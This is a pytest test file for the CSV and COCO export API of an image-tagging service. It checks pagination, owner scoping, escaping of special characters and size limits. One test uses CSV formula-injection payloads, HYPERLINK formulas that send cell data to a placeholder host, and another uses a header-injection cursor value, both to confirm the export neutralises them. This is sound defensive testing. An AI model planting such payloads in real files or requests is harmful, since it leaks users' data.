import csv
import io
import json
import re
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest
from botocore.stub import Stubber
from fastapi.testclient import TestClient
from httpx2 import Response

from app.adapters.aws.items import attributes, image_item
from app.adapters.aws.table import Table
from app.api import export_formats
from app.api.export_formats import CocoDocument
from app.domain.ids import created_at, new_id
from app.domain.images import Image, ImageState
from app.domain.tags import MAX_TAGS, TagEdit
from app.main import handler
from detector import BoundingBox, Detection
from tests.support.aws import TABLE_NAME
from tests.support.fakes import image
from tests.support.tokens import claims, sign
from tests.unit.app.conftest import Caller
from tests.unit.app.test_main import event

if TYPE_CHECKING:
    from mypy_boto3_dynamodb.client import DynamoDBClient

MOMENT = datetime(2026, 1, 31, 12, tzinfo=UTC)
MOST_DETECTIONS = 6_400  # their item has 400 KB, the maximum of DynamoDB
MEBIBYTE = 2**20
ID = "[0-7][0-9a-hjkmnp-tv-z]{25}"


def pages(client: TestClient, kind: str, limit: int = 500) -> Iterator[Response]:
    """Yield each page, following the `Link` header."""
    link: re.Match[str] | None = re.match("<(.*)>", f"</export?format={kind}&limit={limit}>")
    while link:
        response = client.get(link[1]).raise_for_status()
        yield response
        link = re.fullmatch('<(/export[?].*)>; rel="next"', response.headers.get("Link", ""))


def export(client: TestClient, kind: str = "csv") -> Any:
    """Return the only page: the rows of the CSV without the header row, or the COCO document."""
    (response,) = pages(client, kind)
    return table_rows(response)[1:] if kind == "csv" else response.json()


def table_rows(response: Response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.text, newline=""), strict=True))


def check_coco(document: dict[str, Any]) -> None:
    """Assert what the specification of the format requires."""
    CocoDocument.model_validate(document, strict=False, extra="forbid")
    by_id = {part: {entry["id"]: entry for entry in document[part]} for part in ("images", "annotations", "categories")}
    for part, entries in by_id.items():
        assert len(entries) == len(document[part])
        assert all(type(number) is int for number in entries)
    for annotation in document["annotations"]:
        image_entry = by_id["images"][annotation["image_id"]]
        assert annotation["category_id"] in by_id["categories"]
        left, top, width, height = annotation["bbox"]
        assert 0 <= left < left + width <= image_entry["width"]
        assert 0 <= top < top + height <= image_entry["height"]
        assert annotation["area"] == pytest.approx(width * height, abs=0.01)
        assert annotation["iscrowd"] == 0


def boxes(document: dict[str, Any]) -> list[tuple[str, str, list[float]]]:
    """Return for each annotation the image's id in the library, the name of the category and the bounding box."""
    ids = {entry["id"]: entry["pixtag_id"] for entry in document["images"]}
    names = {entry["id"]: entry["name"] for entry in document["categories"]}
    return [
        (ids[annotation["image_id"]], names[annotation["category_id"]], annotation["bbox"])
        for annotation in document["annotations"]
    ]


def make_image(owner: str, **counts: int) -> Image:
    return replace(image(owner, counts=counts), width=64, height=48, model="fake@1")


def test_csv_has_row_for_each_tag_of_each_image(client: TestClient, table: Table, owner: str) -> None:
    edits = {"cat": TagEdit(3, MOMENT), "dog": TagEdit(5, MOMENT), "bird": TagEdit(0, MOMENT)}
    tagged = table.save(replace(make_image(owner, dog=2, person=1, bird=1), edits=edits, taken_at=MOMENT))
    untagged = table.save(make_image(owner))

    (response,) = pages(client, "csv")

    added = [created_at(image.id).isoformat(timespec="seconds") for image in (untagged, tagged)]
    image_cells = [tagged.id, "beach.jpg", added[1], "2026-01-31T12:00:00+00:00", "64", "48"]
    assert table_rows(response) == [
        ["id", "name", "added", "taken", "width", "height", "tag", "count", "boxes", "edited"],
        [untagged.id, "beach.jpg", added[0], "", "64", "48", "", "0", "0", ""],
        [*image_cells, "dog", "5", "2", "2026-01-31T12:00:00+00:00"],
        [*image_cells, "cat", "3", "0", "2026-01-31T12:00:00+00:00"],
        [*image_cells, "person", "1", "1", ""],
    ]
    assert response.text.count("\r\n") == response.text.count("\n") == 5


def test_coco_has_annotation_for_each_detection(client: TestClient, table: Table, owner: str) -> None:
    detections = tuple(Detection("Dog", 0.8765, BoundingBox(left, 2.0, 30.0, 40.1)) for left in (0.3, 1.5))
    saved = table.save(
        replace(make_image(owner), detections=detections, edits={"cat": TagEdit(3, MOMENT)}, taken_at=MOMENT)
    )

    document = export(client, "coco")

    check_coco(document)
    assert document["images"] == [
        {
            "id": 1,
            "file_name": "beach.jpg",
            "width": 64,
            "height": 48,
            "date_captured": "2026-01-31T12:00:00Z",
            "pixtag_id": saved.id,
            "model": "fake@1",
            "tags": {"cat": 3, "dog": 2},
        }
    ]
    assert document["categories"] == [{"id": 1, "name": "dog", "supercategory": ""}]
    common = {"image_id": 1, "category_id": 1, "segmentation": [], "iscrowd": 0, "score": 0.8765}
    assert document["annotations"] == [
        {"id": 1, "bbox": [0.3, 2.0, 29.7, 38.1], "area": 1131.57, **common},
        {"id": 2, "bbox": [1.5, 2.0, 28.5, 38.1], "area": 1085.85, **common},
    ]
    assert document["info"]["description"] == "A page of a PixTag library"
    assert document["licenses"] == []


def test_coco_excludes_detections_of_removed_tags(client: TestClient, table: Table, owner: str) -> None:
    edits = {"dog": TagEdit(0, MOMENT), "cat": TagEdit(1, MOMENT)}
    saved = table.save(replace(make_image(owner, dog=1, cat=2), edits=edits))

    document = export(client, "coco")

    assert boxes(document) == [(saved.id, "cat", [1.5, top, 28.5, 1.5]) for top in (2.0, 4.0)]
    assert document["images"][0]["tags"] == {"cat": 1}


@pytest.mark.parametrize(
    ("kind", "media_type", "extension"),
    [("csv", "text/csv; charset=utf-8", "csv"), ("coco", "application/json", "json")],
)
def test_each_page_has_its_own_file_name(
    client: TestClient, table: Table, owner: str, kind: str, media_type: str, extension: str
) -> None:
    _, last = (table.save(make_image(owner)) for _ in range(2))

    first, second, *_ = pages(client, kind, limit=1)

    assert first.headers["Content-Type"] == second.headers["Content-Type"] == media_type
    file_names = [response.headers["Content-Disposition"] for response in (first, second)]
    day = r"pixtag-\d{4}-\d\d-\d\d"
    assert re.fullmatch(f'attachment; filename="{day}[.]{extension}"', file_names[0])
    assert re.fullmatch(f'attachment; filename="{day}-{last.id}[.]{extension}"', file_names[1])


def test_empty_library_returns_empty_document(client: TestClient) -> None:
    assert export(client, "csv") == []
    document = export(client, "coco")
    check_coco(document)
    assert document["images"] == document["annotations"] == document["categories"] == []


def test_export_contains_only_ready_images_of_caller(caller: Caller, table: Table, owner: str) -> None:
    saved = {state: table.save(replace(make_image(owner, dog=1), state=state)) for state in ImageState}
    other_owner = "6f2f1d9e-4c8a-4d5e-9e0a-0a1b2c3d4e5f"
    other = table.save(make_image(other_owner, cat=1))

    for caller_id, expected in ((owner, saved[ImageState.READY]), (other_owner, other)):
        client = caller(caller_id)
        assert [row[0] for row in export(client)] == [expected.id]
        assert [entry["pixtag_id"] for entry in export(client, "coco")["images"]] == [expected.id]


def test_pages_together_contain_whole_library(client: TestClient, table: Table, owner: str) -> None:
    saved = [table.save(make_image(owner, dog=number % 3, cat=number % 2)) for number in range(7)]

    documents = [response.json() for response in pages(client, "coco", limit=3)]

    for document in documents:
        check_coco(document)
    assert [len(document["images"]) for document in documents] == [3, 3, 1]
    newest_first = saved[::-1]
    assert [entry["pixtag_id"] for document in documents for entry in document["images"]] == [
        image.id for image in newest_first
    ]
    assert Counter((image_id, name) for document in documents for image_id, name, _ in boxes(document)) == Counter(
        (image.id, detection.label) for image in saved for detection in image.detections
    )
    (whole,) = pages(client, "csv")
    rows = [row for response in pages(client, "csv", limit=3) for row in table_rows(response)[1:]]
    assert rows == table_rows(whole)[1:]


def put(dynamodb: "DynamoDBClient", images: Sequence[Image]) -> None:
    """Write only the image items. This is faster than a transaction for each image."""
    for start in range(0, len(images), 25):
        puts = [{"PutRequest": {"Item": attributes(image_item(image))}} for image in images[start : start + 25]]
        dynamodb.batch_write_item(RequestItems={TABLE_NAME: puts})  # type: ignore[dict-item]


@pytest.mark.parametrize("kind", ["csv", "coco"])
def test_export_of_thousand_images_contains_each_once(
    client: TestClient, dynamodb: "DynamoDBClient", owner: str, kind: str
) -> None:
    saved = [make_image(owner) for _ in range(1_000)]
    put(dynamodb, saved)

    responses = list(pages(client, kind, limit=300))

    assert len(responses) == 4
    ids = [image_id for response in responses for image_id in re.findall(ID, response.text)]
    assert ids == sorted((image.id for image in saved), reverse=True)


@pytest.mark.parametrize(
    "name",
    [
        'the "best", of all.jpg',
        "two\r\nlines.jpg",
        "a,b;c\td.jpg",
        "'quoted'.jpg",
        "👩‍👩‍👧 Ελλάδα 写真.jpg",
        "5.jpg",
    ],
)
def test_name_with_special_characters_is_exported_unchanged(
    client: TestClient, table: Table, owner: str, name: str
) -> None:
    table.save(replace(make_image(owner, dog=1), name=name, edits={name: TagEdit(2, MOMENT)}))

    assert [(row[1], row[6]) for row in export(client)] == [(name, name), (name, "dog")]
    entry = export(client, "coco")["images"][0]
    assert (entry["file_name"], entry["tags"][name]) == (name, 2)


def test_coco_with_unicode_name_is_ascii(client: TestClient, table: Table, owner: str) -> None:
    table.save(replace(make_image(owner), name="写真.jpg"))

    (response,) = pages(client, "coco")

    assert response.content.isascii()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="])
def test_csv_cell_that_starts_a_formula_is_escaped(client: TestClient, table: Table, owner: str, start: str) -> None:
    name = f'{start}HYPERLINK("http://x.example?"&A1,"see")'
    table.save(replace(make_image(owner), name=name, edits={name: TagEdit(1, MOMENT)}))

    (row,) = export(client)

    assert (row[1], row[6]) == (f"'{name}", f"'{name}")
    assert row[4:6] + row[7:9] == ["64", "48", "1", "0"]
    assert export(client, "coco")["images"][0]["file_name"] == name


def test_csv_formula_after_semicolon_is_escaped(client: TestClient, table: Table, owner: str) -> None:
    table.save(replace(make_image(owner), name="sea; sand;=1+1; -2.jpg"))

    (row,) = export(client)

    assert row[1] == "sea; sand;'=1+1;' -2.jpg"


def make_crowded_image(owner: str) -> Image:
    """Return an image with as many detections as an item can contain."""
    detection = Detection("dining table", 0.8765, BoundingBox(1234.5, 1234.6, 3456.7, 2345.6))
    return replace(make_image(owner), detections=(detection,) * MOST_DETECTIONS)


def make_wordy_image(owner: str) -> Image:
    """Return an image with the longest possible name and tags, which get even longer when they are quoted."""
    edits = {"😀" * 60 + str(number): TagEdit(999, MOMENT) for number in range(MAX_TAGS)}
    return replace(make_image(owner), name='"' * 255, edits=edits)


@pytest.mark.parametrize(
    ("kind", "make", "count"),
    [("coco", make_crowded_image, 7), ("coco", make_wordy_image, 500), ("csv", make_wordy_image, 500)],
)
def test_page_of_large_images_fits_into_lambda_response(
    client: TestClient, dynamodb: "DynamoDBClient", owner: str, kind: str, make: Callable[[str], Image], count: int
) -> None:
    item = attributes(image_item(make(owner)))
    ids = sorted((new_id() for _ in range(count)), reverse=True)
    rows = [item | attributes({"id": image_id}) for image_id in ids]

    with Stubber(dynamodb) as stub:
        stub.add_response("query", {"Items": rows})
        response = client.get("/export", params={"format": kind})

    assert len(response.content) < 5 * MEBIBYTE
    assert 3.5 * MEBIBYTE < len(json.dumps(response.text)) < 5 * MEBIBYTE  # as Lambda returns it
    exported_ids = list(dict.fromkeys(re.findall(ID, response.text)))
    assert exported_ids == ids[: len(exported_ids)]
    assert f"cursor={exported_ids[-1]}>" in response.headers["Link"]


@pytest.mark.parametrize("kind", ["csv", "coco"])
def test_page_after_full_page_starts_with_next_image(
    client: TestClient, table: Table, owner: str, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_formats, "FULL_PAGE_BYTES", 150)
    saved = [table.save(make_image(owner, dog=1)) for _ in range(7)]

    responses = list(pages(client, kind))

    assert len(responses) > 3
    ids = [image_id for response in responses for image_id in re.findall(ID, response.text)]
    assert ids == sorted((image.id for image in saved), reverse=True)


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"format": "csv", "cursor": "garbage"}, 400),
        ({"format": "coco", "cursor": '"\r\nX: y'}, 400),
        ({"format": "csv", "limit": "0"}, 422),
        ({"format": "csv", "limit": "1001"}, 422),
        ({"format": "xml"}, 422),
        ({}, 422),
    ],
)
def test_export_with_invalid_parameter_returns_problem(client: TestClient, params: dict[str, str], status: int) -> None:
    response = client.get("/export", params=params)

    assert response.status_code == status
    assert response.headers["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize("kind", ["csv", "coco"])
def test_handler_returns_export_as_plain_text(client: TestClient, table: Table, owner: str, kind: str) -> None:
    saved = table.save(replace(make_image(owner), name="写真.jpg"))
    request = event("/export") | {
        "rawQueryString": f"format={kind}",
        "headers": {"host": "pixtag.example", "authorization": f"Bearer {sign(claims(owner))}"},
    }

    response = handler(request, {})  # type: ignore[arg-type]  # the context is not used

    assert (response["statusCode"], response["isBase64Encoded"]) == (200, False)
    assert saved.id in response["body"]
